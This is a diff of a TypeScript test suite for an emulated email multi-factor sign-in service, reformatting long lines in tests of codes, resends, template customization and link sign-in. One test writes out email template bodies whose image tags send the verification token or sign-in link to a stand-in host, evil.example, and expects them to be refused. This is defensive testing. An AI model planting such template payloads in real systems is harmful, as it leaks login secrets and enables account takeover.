@@ -5,7 +5,9 @@ import { factorKit } from '#test/kit/factors.ts';
 import { aClient, testBrowser } from '#test/kit/signin.ts';
 
 let org: TestApp;
-const { person, call, factors, enroll, list, verify, errorCode, mailTo, codeTo, otherToken } = factorKit(() => org);
+const { person, call, factors, enroll, list, verify, errorCode, mailTo, codeTo, otherToken } = factorKit(
+  () => org,
+);
 beforeAll(async () => {
   org = await testApp();
 });
@@ -29,14 +31,18 @@ describe('what is refused', () => {
   test('a wrong code, and the right one to somebody else, for another factor or asker', async () => {
     const mine = await challenged();
     const theirs = await challenged();
-    expect(errorCode(await verify(mine.id, mine.factor, { passCode: wrongCode(mine.code) }))).toBe('E0000068');
+    expect(errorCode(await verify(mine.id, mine.factor, { passCode: wrongCode(mine.code) }))).toBe(
+      'E0000068',
+    );
     if (mine.code !== theirs.code)
       expect(errorCode(await verify(mine.id, mine.factor, { passCode: theirs.code }))).toBe('E0000068');
     expect((await verify(mine.id, theirs.factor, { passCode: theirs.code })).status).toBe(404);
     // A program that did not ask has nothing to answer.
     const other = await otherToken();
     expect(errorCode(await verify(mine.id, mine.factor, { passCode: mine.code }, other))).toBe('E0000068');
-    expect((await verify(mine.id, mine.factor, { passCode: mine.code })).json()).toEqual({ factorResult: 'SUCCESS' });
+    expect((await verify(mine.id, mine.factor, { passCode: mine.code })).json()).toEqual({
+      factorResult: 'SUCCESS',
+    });
   });
 
   test('one that was replaced, one that was used, and one that was never sent', async () => {
@@ -152,7 +158,13 @@ describe('the factor', () => {
   test('is everybody’s whose account is active and has an address, and goes only with the address', async () => {
     const { id, login } = await person();
     expect(await list(id)).toMatchObject([
-      { id: `emf${id.slice(3)}`, factorType: 'email', provider: 'OKTA', status: 'ACTIVE', profile: { email: login } },
+      {
+        id: `emf${id.slice(3)}`,
+        factorType: 'email',
+        provider: 'OKTA',
+        status: 'ACTIVE',
+        profile: { email: login },
+      },
     ]);
     const staged = await org.api<{ id: string }>('POST', '/api/v1/users?activate=false', {
       profile: { firstName: 'A', lastName: 'B', email: 'staged@example.com', login: 'staged@example.com' },
@@ -173,14 +185,19 @@ describe('the factor', () => {
     const mail = await mailTo('second@example.com');
     expect(mail?.text).not.toContain('/signin/email/');
     const code = await codeTo('second@example.com');
-    const activate = (passCode: string) => call('POST', factors(id, `/${made.id}/lifecycle/activate`), { passCode });
+    const activate = (passCode: string) =>
+      call('POST', factors(id, `/${made.id}/lifecycle/activate`), { passCode });
     expect(errorCode(await activate(''))).toBe('E0000068');
     expect(errorCode(await activate(wrongCode(code)))).toBe('E0000068');
     pause();
     expect((await call('POST', factors(id, `/${made.id}/resend`), { factorType: 'email' })).status).toBe(200);
-    expect(errorCode(await call('POST', factors(id, `/${made.id}/resend`), { factorType: 'email' }))).toBe('E0000118');
+    expect(errorCode(await call('POST', factors(id, `/${made.id}/resend`), { factorType: 'email' }))).toBe(
+      'E0000118',
+    );
     expect((await activate(await codeTo('second@example.com'))).json()).toMatchObject({ status: 'ACTIVE' });
-    expect((await org.eventTypes()).filter((type) => type.startsWith('user.'))).toEqual(['user.mfa.factor.activate']);
+    expect((await org.eventTypes()).filter((type) => type.startsWith('user.'))).toEqual([
+      'user.mfa.factor.activate',
+    ]);
     expect(await list(id)).toHaveLength(2);
     await org.api('POST', `/api/v1/users/${id}`, { profile: { secondEmail: 'third@example.com' } });
     expect(await list(id)).toHaveLength(1);
@@ -211,9 +228,17 @@ describe('the factor', () => {
   test('says what the organisation wants it to say', async () => {
     const [brand] = await org.api<{ id: string }[]>('GET', '/api/v1/brands');
     const customizations = `/api/v1/brands/${brand?.id}/templates/email/EmailChallenge/customizations`;
-    const leaking = { language: 'en', isDefault: true, subject: 's', body: '<img src="https://evil.example/${verificationToken}">${verificationToken}' };
+    const leaking = {
+      language: 'en',
+      isDefault: true,
+      subject: 's',
+      body: '<img src="https://evil.example/${verificationToken}">${verificationToken}',
+    };
     expect(errorCode(await call('POST', customizations, leaking))).toBe('E0000001');
-    const link = { ...leaking, body: '<img src="https://evil.example/?${emailAuthenticationLink}">${verificationToken}' };
+    const link = {
+      ...leaking,
+      body: '<img src="https://evil.example/?${emailAuthenticationLink}">${verificationToken}',
+    };
     expect(errorCode(await call('POST', customizations, link))).toBe('E0000001');
     const made = await org.api<{ id: string }>('POST', customizations, {
       language: 'en',
@@ -239,11 +264,15 @@ describe('the link in the mail', () => {
     await browser.get('/signin');
     const { hash } = org.app.signIn.pages.bindings.of(Object.fromEntries(browser.cookies));
     const user = await org.app.directory.users.getUser(id);
-    const by = { actor: { id, type: 'User' as const, alternateId: login, displayName: login }, client: aClient };
+    const by = {
+      actor: { id, type: 'User' as const, alternateId: login, displayName: login },
+      client: aClient,
+    };
     const request = { by, client: aClient, binding: hash };
     const factorId = `emf${id.slice(3)}`;
     await org.app.signIn.factors.challenge(user, factorId, request);
-    const path = /http:\/\/localhost:8080(\/signin\/email\/\S+)/.exec((await mailTo(login))?.text ?? '')?.[1] ?? '';
+    const path =
+      /http:\/\/localhost:8080(\/signin\/email\/\S+)/.exec((await mailTo(login))?.text ?? '')?.[1] ?? '';
     const poll = async () => (await org.app.signIn.factors.poll(user, factorId, request)).result;
     return { login, path, poll, user, factorId, request };
   }
@@ -262,7 +291,11 @@ describe('the link in the mail', () => {
     const posted = await org.inject({
       method: 'POST',
       url: path,
-      headers: { 'content-type': 'application/x-www-form-urlencoded', origin: 'http://localhost:8080', 'sec-fetch-site': 'same-origin' },
+      headers: {
+        'content-type': 'application/x-www-form-urlencoded',
+        origin: 'http://localhost:8080',
+        'sec-fetch-site': 'same-origin',
+      },
       body: new URLSearchParams(form).toString(),
     });
     expect(posted.status).toBe(403);
@@ -275,7 +308,11 @@ describe('the link in the mail', () => {
     for (let n = 0; n < 3; n++) expect((await browser.get(path)).text).toContain(login);
     expect(await poll()).toBe('WAITING');
     const page = await browser.get(path);
-    const elsewhere = await browser.submit(page, {}, { origin: 'https://evil.example', 'sec-fetch-site': 'cross-site' });
+    const elsewhere = await browser.submit(
+      page,
+      {},
+      { origin: 'https://evil.example', 'sec-fetch-site': 'cross-site' },
+    );
     expect(elsewhere.status).toBe(403);
     expect(await poll()).toBe('WAITING');
     expect((await browser.submit(page, {})).text).toContain('Go back to the tab in which you began');
@@ -293,7 +330,9 @@ describe('the link in the mail', () => {
     const browser = browserOf();
     const { path, user, factorId, request } = await asked(browser);
     for (let n = 0; n < 8; n++)
-      expect((await org.app.signIn.factors.check(user, factorId, { passCode: '' }, request)).result).toBe('FAILED');
+      expect((await org.app.signIn.factors.check(user, factorId, { passCode: '' }, request)).result).toBe(
+        'FAILED',
+      );
     await browser.submit(await browser.get(path), {});
     const { result, proof } = await org.app.signIn.factors.check(user, factorId, { passCode: '' }, request);
     expect([result, proof]).toMatchObject([
@@ -306,7 +345,9 @@ describe('the link in the mail', () => {
     const browser = browserOf();
     const { path, login, user, factorId, request } = await asked(browser);
     const code = await codeTo(login);
-    expect((await org.app.signIn.factors.check(user, factorId, { passCode: code }, request)).result).toBe('SUCCESS');
+    expect((await org.app.signIn.factors.check(user, factorId, { passCode: code }, request)).result).toBe(
+      'SUCCESS',
+    );
     expect((await browser.get(path)).status).toBe(410);
     const again = await asked(browser);
     org.clock.advance(300_000);
@@ -355,7 +396,10 @@ describe('the way in by mail', () => {
     expect(await take(login, code, { subject: '00uSomebodyElse00000' })).toEqual(wrong);
     await org.eventTypes();
     expect(await take(login, code)).toMatchObject({
-      proved: { userId: id, proof: { key: 'okta_email', method: 'email', is: ['possession', 'userPresence'] } },
+      proved: {
+        userId: id,
+        proof: { key: 'okta_email', method: 'email', is: ['possession', 'userPresence'] },
+      },
     });
     expect(await take(login, code)).toEqual(wrong);
     expect((await org.eventTypes()).filter((type) => type.startsWith('user.'))).toEqual([
